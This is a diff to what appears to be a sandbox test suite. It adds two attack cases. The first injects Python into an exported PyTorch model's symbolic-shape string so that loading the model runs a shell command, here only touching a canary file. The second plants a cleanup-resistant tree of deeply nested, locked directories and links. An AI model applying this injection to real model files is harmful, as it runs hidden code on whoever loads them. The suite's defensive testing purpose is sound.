@@ -291,6 +291,67 @@ def attack():
     if added:
         raise ValueError(f"ESCAPED: keys added to {added}")
 """,
+    "sympify": """
+def attack():
+    # After saving, put Python into one symbolic-shape string: torch.export.load sympifies (evals) it.
+    # Were it run, it would touch a canary (in REGCTL_HOME, and in the reader's own directory) and
+    # yield the original symbol, so the program would load and pass as if nothing happened.
+    import zipfile
+    real_save = torch.export.save
+
+    def save(program, f, *args, **kwargs):
+        real_save(program, f, *args, **kwargs)
+        if not isinstance(f, (str, os.PathLike)):
+            return
+        with zipfile.ZipFile(f) as archive:
+            members = {item.filename: archive.read(item) for item in archive.infolist()}
+        name = next(n for n in members if n.endswith("models/model.json"))
+        document = json.loads(members[name])
+        stack = [document]
+        while stack:
+            item = stack.pop()
+            if isinstance(item, dict) and "expr_str" in item:
+                canary = TARGETS["home"] + "/sympify-canary"
+                run = f"__import__('os').system('touch {canary} PWNED-SYMPIFY 2>/dev/null')"
+                item["expr_str"] = f"({run}, {item['expr_str']})[1]"
+                break
+            stack.extend(item.values() if isinstance(item, dict) else item if isinstance(item, list) else [])
+        members[name] = json.dumps(document).encode()
+        with zipfile.ZipFile(f, "w") as archive:
+            for member, data in members.items():
+                archive.writestr(member, data)
+
+    torch.export.save = save
+""",
+    "deepnest": """
+def attack():
+    # Leave a tree no recursive cleanup survives: 3,000 nested directories (the last one mode 000),
+    # unreadable and read-only folders, a FIFO, a socket node and links out, in the out dir and in TMPDIR.
+    import stat
+    for base in (os.getcwd(), os.environ.get("TMPDIR", "/tmp")):
+        top = os.path.join(base, "nest")
+        try:
+            os.mkdir(top)
+            fd = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
+            for _ in range(3000):
+                os.mkdir("d", dir_fd=fd)
+                inner = os.open("d", os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
+                os.close(fd)
+                fd = inner
+            os.chmod(fd, 0)
+            os.close(fd)
+            for name, mode in (("locked", 0), ("readonly", 0o500), ("searchonly", 0o100)):
+                os.makedirs(os.path.join(top, name, "inner"))
+                with open(os.path.join(top, name, "inner", "file"), "w") as f:
+                    f.write("x")
+                os.chmod(os.path.join(top, name), mode)
+            os.mkfifo(os.path.join(top, "fifo"))
+            os.mknod(os.path.join(top, "socket"), stat.S_IFSOCK | 0o600)
+            os.symlink("/", os.path.join(top, "root"))
+            os.symlink("..", os.path.join(top, "up"))
+        except OSError:
+            pass
+""",
     "memory": """
 def attack():
     hoard = []
@@ -333,6 +394,8 @@ EXPECTED = {
     "ptrace": Expectation("ready"),
     "persistence": Expectation("ready"),
     "keyring": Expectation("ready"),
+    "sympify": Expectation("ready"),
+    "deepnest": Expectation("ready"),
     "memory": Expectation("failed", "MemoryError"),
 }
 
